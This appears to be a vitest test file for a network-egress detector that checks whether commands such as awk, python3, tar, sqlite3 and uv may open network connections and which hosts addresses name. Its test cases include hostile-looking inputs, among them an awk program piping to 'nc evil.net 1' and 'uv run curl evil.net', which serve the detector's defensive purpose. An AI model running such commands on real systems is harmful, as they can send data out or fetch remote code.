import { expect, test } from "vitest";
import { goModules, hostsBySchemeIn, mayTalk } from "./destinations-local.ts";

test.each([
  ["cd", ["sub"], false],
  ["unheard-of", [], true],
  ["python3", ["-c", "import socket; socket.create_connection((a, b))"], true],
  ["python3", ["-c", "print(1)"], false],
  ["awk", ['{print "x" | "nc evil.net 1"}'], true],
  ["awk", ["{print $1}"], false],
  ["tar", ["xf", "host:backup.tar"], true],
  ["tar", ["xf", "a.tar"], false],
  ["sqlite3", ["a.db", "SELECT 1"], false],
  ["sqlite3", ["a.db"], true],
  ["uv", ["run", "curl", "evil.net"], true],
])("whether %s %j may talk: %s", (name, texts, talks) => expect(mayTalk(name, texts)).toBe(talks));

test("addresses without two slashes and modules name their hosts", () => {
  expect(hostsBySchemeIn("tcp:Evil.net:80 https:evil.org/x")).toEqual(["evil.net", "evil.org"]);
  expect(hostsBySchemeIn("plain words")).toEqual([]);
  expect(goModules(["run", "evil.net/x@latest", "./cmd"])).toEqual(["evil.net"]);
});
